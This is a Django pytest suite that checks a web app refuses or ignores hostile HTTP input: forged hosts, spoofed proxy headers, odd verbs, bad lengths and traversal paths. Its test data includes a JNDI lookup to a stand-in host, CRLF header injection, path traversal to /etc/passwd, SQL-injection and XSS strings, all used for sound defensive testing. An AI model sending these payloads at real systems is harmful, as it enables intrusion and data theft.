"""Headers, verbs and lengths that no app of ours sends: refused, or as if they were not there."""

from __future__ import annotations

import re
from io import BytesIO
from typing import Any

import pytest
from django.conf import settings
from django.core.signals import request_finished, request_started
from django.db import close_old_connections, transaction
from django.test import Client as Browser
from django.test import RequestFactory

from config.tests.hostile.words import is_sound
from config.tests.test_admin_permissions import everything
from config.tests.world import World
from config.wsgi import application
from conftest import signed_in

pytestmark = pytest.mark.django_db

API = "/api/v1"
JSON = "application/json"
NEW = b'{"full_name": "New", "email": "new@example.com", "primary_phone": "5555-1234"}'

REFUSED_HOSTS = (
    "hostile.example",
    "testserver.hostile.example",
    "testserver@hostile.example",
    "testserver:x",
    "",
    "testserver hostile",
    "testserver\r\nSet-Cookie: hostile=1",
    "[::1",
    "-testserver",
    "xn--\xff",
    "localhost/../",
    "testserver,hostile.example",
    "t" * 5000,
)


@pytest.mark.parametrize("host", REFUSED_HOSTS)
@pytest.mark.parametrize("address", ["/admin/login/", "/admin/", "/"])
def test_a_host_that_is_not_ours_is_served_nothing(host, address):
    answer = Browser().get(address, HTTP_HOST=host)
    if answer.status_code == 302:  # where no absolute address is made, none is needed
        assert answer["Location"].startswith("/admin/")
        assert "hostile" not in answer["Location"]
    else:
        assert answer.status_code == 400
        assert b"hostile" not in answer.content


IGNORED: dict[str, dict[str, str]] = {
    "another host, by a proxy": {"X-Forwarded-Host": "hostile.example", "X-Forwarded-Port": "99"},
    "another host, by the standard": {"Forwarded": 'for="[::1]";host=hostile.example;proto=https'},
    "another address": {"X-Original-URL": "/admin/users/user/", "X-Rewrite-URL": "/admin/"},
    "another prefix": {"X-Forwarded-Prefix": "//hostile.example", "X-Script-Name": "/hostile"},
    "another method": {
        "X-HTTP-Method-Override": "DELETE",
        "X-HTTP-Method": "DELETE",
        "X-Method-Override": "DELETE",
    },
    "another peer": {"X-Forwarded-For": "127.0.0.1, ::1, <script>", "X-Real-IP": "127.0.0.1"},
    "another user": {"Remote-User": "ana@studio.example", "X-Forwarded-User": "1"},
    "a part of it": {"Range": "bytes=0-1,5-6,0-1000000000", "If-Range": '"x"'},
    "nothing new": {"If-Modified-Since": "Fri, 31 Dec 9999 23:59:59 GMT", "If-None-Match": "*"},
    "many parts": {"Range": "bytes=" + ",".join("0-" for _ in range(5000))},
    "any form": {"Accept": "text/html;q=0.9, */*;q=0.1"},
    "no form": {"Accept": "image/png"},
    "a form of nothing": {"Accept": ";;;,,,/;q=x" + "a/b;" * 3000},
    "no language": {"Accept-Language": "x-hostile;q=9, ../../../etc/passwd, zz" + "-a" * 200},
    "many languages": {"Accept-Language": "en," + ",".join(f"x{n};q=0.1" for n in range(3000))},
    "any packing": {"Accept-Encoding": "gzip;q=1.0, bomb, *;q=0"},
    "another page": {"Referer": "javascript:alert(1)//\x1b[31m", "Origin": "null"},
    "another origin": {"Origin": "https://hostile.example"},
    "an odd browser": {"User-Agent": "<script>alert(1)</script>" + "x" * 20_000},
    "an upgrade": {
        "Upgrade": "h2c",
        "Connection": "Upgrade, HTTP2-Settings",
        "HTTP2-Settings": "x",
    },
    "a surprise": {"Expect": "200-ok", "TE": "trailers, deflate;q=0.5", "Trailer": "Authorization"},
    "a template": {"X-Api-Version": "${jndi:ldap://hostile.example}", "X-Debug": "1"},
    "not ASCII": {"X-Anything": "\xff\xfe", "User-Agent": "\xe9\x00"},
    "htmx, for a page": {"HX-Request": "true", "HX-Target": "x'><hostile>"},
    "cookies of others": {"Cookie": "a=1; sessionid2=x; __Host-x=y; csrftoken=" + "z" * 9000},
    "broken cookies": {"Cookie": "=; ;;;\x01; language=../../etc; django_language=zz"},
}


@pytest.mark.parametrize("name", IGNORED)
def test_what_nobody_asked_for_makes_no_difference(world, name):
    client = signed_in(world.people["coordinator"])
    for address in ("users/me", "clients", f"sessions/{world.ids['session']}", "nowhere"):
        plain = client.get(f"{API}/{address}")
        odd = client.get(f"{API}/{address}", headers=IGNORED[name])
        is_sound(odd, name)
        assert (odd.status_code, odd.content) == (plain.status_code, plain.content), address
        assert odd.get("Access-Control-Allow-Origin") is None
    for address in ("/admin/clients/client/?q=x", "/admin/nowhere/"):
        headers = {key: value for key, value in IGNORED[name].items() if key != "Cookie"}
        plain = world.browser("coordinator").get(address)
        odd = world.browser("coordinator").get(address, headers=headers)
        is_sound(odd, name)
        assert odd.status_code == plain.status_code
        title = re.compile(r"<title>.*?</title>", re.DOTALL)
        assert title.findall(odd.content.decode()) == title.findall(plain.content.decode())
        assert "hostile" not in odd.content.decode()
        assert read(odd["Content-Security-Policy"]) == read(plain["Content-Security-Policy"])


def read(policy: str) -> set[str]:
    return {part.strip() for part in policy.split(";")}


# Of the contract: headers that mean something, with what means nothing

VERSIONS = {
    "*": {200, 400, 412},
    '""': {400, 412},
    'W/""': {400, 412},
    '"999"': {412},
    '"-1"': {400, 412},
    "x": {400, 412},
    '"1", "2"': {400, 412, 200},
    '"\xe9"': {400, 412},
    '"' + "9" * 5000 + '"': {400, 412},
    '"1\x00"': {400, 412},
    "'; DROP TABLE x": {400, 412},
    '"1e3"': {400, 412},
    '"NaN"': {400, 412},
    '"\u0663"': {400, 412},
}


@pytest.mark.parametrize("version", VERSIONS)
def test_an_odd_version_is_none_that_is_up_to_date(world, version):
    path = f"{API}/sessions/{world.ids['session']}"
    client = signed_in(world.people["coordinator"])
    sent = version.encode("utf-8").decode("latin-1")
    answer = client.patch(path, {"client_requirements": "x"}, headers={"If-Match": sent})
    is_sound(answer, version)
    assert answer.status_code in VERSIONS[version], answer.content


KEYS = (
    "x" * 201,
    "x" * 20_000,
    "\xe9\xff",
    "a\x00b",
    "a\tb",
    "'; --",
    "../../x",
    "{}",
    "<hostile>",
    " ",
    "\x1b[31m",
    "a,b",
    "%00",
    "\x7f",
)


@pytest.mark.parametrize("key", KEYS)
def test_an_odd_key_is_kept_as_it_is_or_refused(world, key):
    path = f"{API}/sessions/{world.ids['session']}/recalculate"
    client = signed_in(world.people["coordinator"])
    for _ in range(2):
        answer = client.post(path, {}, headers={"Idempotency-Key": key})
        is_sound(answer, repr(key))
        assert answer.status_code in {200, 400}


KINDS = {
    None: {415, 400, 201},
    "": {415, 400, 201},
    "text/plain": {415},
    "text/html": {415},
    "application/xml": {415},
    "application/x-www-form-urlencoded": {415},
    "application/json-patch+json": {415},
    "application/JSON": {201},
    "application/json; charset=utf-16": {400},
    "application/json; charset=" + "x" * 5000: {415},
    "application/json;;;;": {201, 400, 415},
    "application/json, text/plain": {415, 400, 201},
    "\xff/\xfe": {400, 415},
    "application/json\r\nX: y": {400, 415, 201},
    "*/*": {400, 415, 201},
    "application/*": {400, 415, 201},
    "multipart/form-data": {400, 415},
    "application/x-python-pickle": {415},
    "application/yaml": {415},
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_body_of_an_odd_kind_is_no_failure_of_ours(world, kind):
    client = signed_in(world.people["coordinator"])
    options: dict[str, Any] = {} if kind is None else {"CONTENT_TYPE": kind}
    answer = client.generic("POST", f"{API}/clients", NEW, kind or "", **options)
    is_sound(answer, repr(kind))
    assert answer.status_code in KINDS[kind], answer.content


VERBS = (
    "HEAD",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "FOO",
    "GET\x00",
    "DELETE ",
    "\xff",
    "X" * 3000,
    "COPY",
    "LINK",
    "PURGE",
    "TRACK",
    "DEBUG",
    "QUERY",
)


@pytest.mark.parametrize("verb", VERBS)
def test_an_odd_verb_does_nothing_and_is_no_failure(world, verb):
    before = everything()
    client = signed_in(world.people["admin"])
    ids = world.ids
    for path in ("clients", f"sessions/{ids['session']}", f"time-off/{ids['time_off']}", "enums"):
        answer = client.generic(verb, f"{API}/{path}", NEW, JSON)
        is_sound(answer, verb)
        assert answer.status_code in {200, 204, 400, 405}, (verb, path)
    browser = world.browser("admin")
    for path in (
        f"clients/client/{ids['client']}/change/",
        f"clients/client/{ids['spare_client']}/deactivate/",
        "notifications/notification/read-all/",
        "logout/",
    ):
        answer = browser.generic(verb, f"/admin/{path}", NEW, JSON)
        is_sound(answer, verb)
    after = everything()
    assert {name for name in after if after[name] != before[name]} == {"users_signin"}


def test_trace_gives_no_header_back(world):
    client = signed_in(world.people["admin"])
    token = client._credentials["HTTP_AUTHORIZATION"]
    answer = client.generic("TRACE", f"{API}/users/me", b"", JSON)
    assert answer.status_code == 405
    assert token not in answer.content.decode()


# Lengths that are not those of the body, given to the application as a server would

LENGTHS = (
    "0",
    "1",
    "100000",
    "-1",
    "-99999",
    "x",
    "1e3",
    " 80 ",
    "80, 80",
    "٣",
    "9" * 400,
    "0x50",
    "+80",
    "",
)


@pytest.fixture
def by_hand(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Return a function that calls the application as a server does."""
    for signal in (request_started, request_finished):
        signal.disconnect(close_old_connections)

    def call(method: str, path: str, body: bytes, **environ: str) -> int:
        facts = RequestFactory().generic(method, path, body, JSON).environ
        facts |= {"wsgi.input": BytesIO(body), **environ}
        said: list[str] = []
        with transaction.atomic():
            answer = application(facts, lambda status, headers: said.append(status))
            b"".join(answer)
            transaction.set_rollback(True)
        return int(said[0].split()[0])

    yield call
    for signal in (request_started, request_finished):
        signal.connect(close_old_connections)


@pytest.mark.parametrize("length", LENGTHS)
def test_a_wrong_length_is_a_wrong_request(world, by_hand, length):
    token = signed_in(world.people["admin"])._credentials["HTTP_AUTHORIZATION"]
    status = by_hand("POST", f"{API}/clients", NEW, CONTENT_LENGTH=length, HTTP_AUTHORIZATION=token)
    assert status in {201, 400, 413}, status
    status = by_hand("POST", "/admin/login/", NEW, CONTENT_LENGTH=length)
    assert status in {200, 400, 403, 413}, status


@pytest.mark.parametrize(
    "path",
    [
        "/admin/%00",
        "/\xff",
        "/api/v1/clients/%2e%2e/users",
        "//hostile.example/admin",
        "/admin/" + "a" * 9000,
        "/admin/../api/v1/users",
        "/static/../../etc/passwd",
        "/static/%2e%2e/config/settings.py",
        "/api/v1/\r\nx",
        "/api/v1/sessions/1%0d%0aX:y",
        "/admin/clients/client/1%3Cscript%3E/change/",
        "/api",
        "/admin",
    ],
)
def test_an_odd_path_leads_nowhere(world, by_hand, path):
    assert by_hand("GET", "/", b"", PATH_INFO=path) in {200, 301, 302, 400, 404}
    browser = world.browser("admin")
    answer = browser.get(path.encode("ascii", "replace").decode(), follow=False)
    if answer.status_code in {301, 302}:
        assert answer["Location"].startswith("/")
        assert not answer["Location"].startswith("//")
    assert b"SECRET_KEY" not in b"".join(answer)
    assert settings.SECRET_KEY.encode() not in b"".join(answer)


def test_no_answer_names_what_it_is_made_with(world: World):
    for answer in (signed_in().get(f"{API}/nowhere"), world.browser("admin").get("/admin/")):
        assert {"Server", "X-Powered-By", "Via"}.isdisjoint(answer.headers)
